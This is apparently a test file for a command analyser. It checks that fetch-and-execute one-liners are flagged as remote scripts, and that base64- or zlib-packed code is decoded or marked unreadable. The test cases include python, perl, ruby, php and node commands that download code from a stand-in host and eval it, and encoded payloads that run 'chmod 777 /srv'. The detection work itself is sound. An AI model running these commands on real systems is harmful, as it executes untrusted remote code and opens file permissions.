import { describe, expect, test } from 'vitest';
import { analyse } from '../../../lib/languages/analyse.ts';

const reasons = (text: string, hint?: string) =>
  analyse(text, hint).commands.flatMap(one => (one.kind === 'unseen' ? [one.reason] : []));
const programs = (text: string) =>
  analyse(text).commands.flatMap(one =>
    one.kind === 'call' ? [[one.program, ...one.words.map(w => w.text)].join(' ')] : [],
  );

describe('code that a script fetches and runs', () => {
  for (const [text, hint] of [
    [`python3 -c "import urllib.request as u; exec(u.urlopen('https://code.example/a').read())"`],
    [`python3 -c 'import requests; exec(requests.get("https://code.example/a").text)'`],
    ["reply = requests.get('https://code.example/a')\nexec(reply.text)", 'python'],
    ['exec(urllib.request.urlopen("https://code.example/a").read())'],
    ["perl -e 'eval `curl -s https://code.example/a`'"],
    [`perl -MLWP::Simple -e 'eval get("https://code.example/a")'`],
    [`ruby -ropen-uri -e 'eval(URI.open("https://code.example/a").read)'`],
    [`php -r 'eval(file_get_contents("https://code.example/a"));'`],
    [`node -e "fetch('https://code.example/a').then(r => r.text()).then(eval)"`],
  ] as const) {
    test(text, () => expect(reasons(text, hint)).toContain('remote-script'));
  }
});

describe('code that is only fetched, or run in the open', () => {
  for (const text of [
    `python3 -c "import requests; print(requests.get('https://code.example/a').text)"`,
    `python3 -c "import os; os.system('curl -o a https://code.example/a')"`,
    `python3 -c "exec(open('setup.py').read())"`,
    `perl -e 'eval { get("https://code.example/a") }; print $@'`,
    `node -e "const found = /a/.exec(fetch('a'))"`,
    `ruby -e 'puts Net::HTTP.get(URI("https://code.example/a"))'`,
  ]) {
    test(text, () => expect(reasons(text)).toEqual([]));
  }
});

describe('packed code', () => {
  const packed = Buffer.from("import os; os.system('chmod 777 /srv')").toString('base64');
  test('is read where it stands there', () => {
    expect(programs(`python3 -c "import base64; exec(base64.b64decode('${packed}'))"`)).toContain('chmod 777 /srv');
    const calls = Buffer.from("require('child_process').execSync('chmod 777 /srv')").toString('base64');
    expect(programs(`node -e "eval(atob('${calls}'))"`)).toContain('chmod 777 /srv');
    expect(programs(`node -e "eval(Buffer.from('${calls}', 'base64').toString())"`)).toContain('chmod 777 /srv');
  });
  for (const text of [
    `python3 -c "import zlib, base64; exec(zlib.decompress(base64.b64decode('eJwrzy_KLgYABkQCKQ==')))"`,
    `php -r 'eval(gzinflate(base64_decode("80jNyclXCM8vyklRBAA=")));'`,
    'node -e "eval(atob(process.argv[1]))" "$CODE"',
  ]) {
    test(`is told where it cannot be read: ${text}`, () => expect(reasons(text)).toContain('decoded'));
  }
  test('is none where it is only shown', () => {
    expect(reasons(`node -e "console.log(atob('aGVsbG8='))"`)).toEqual([]);
  });
});
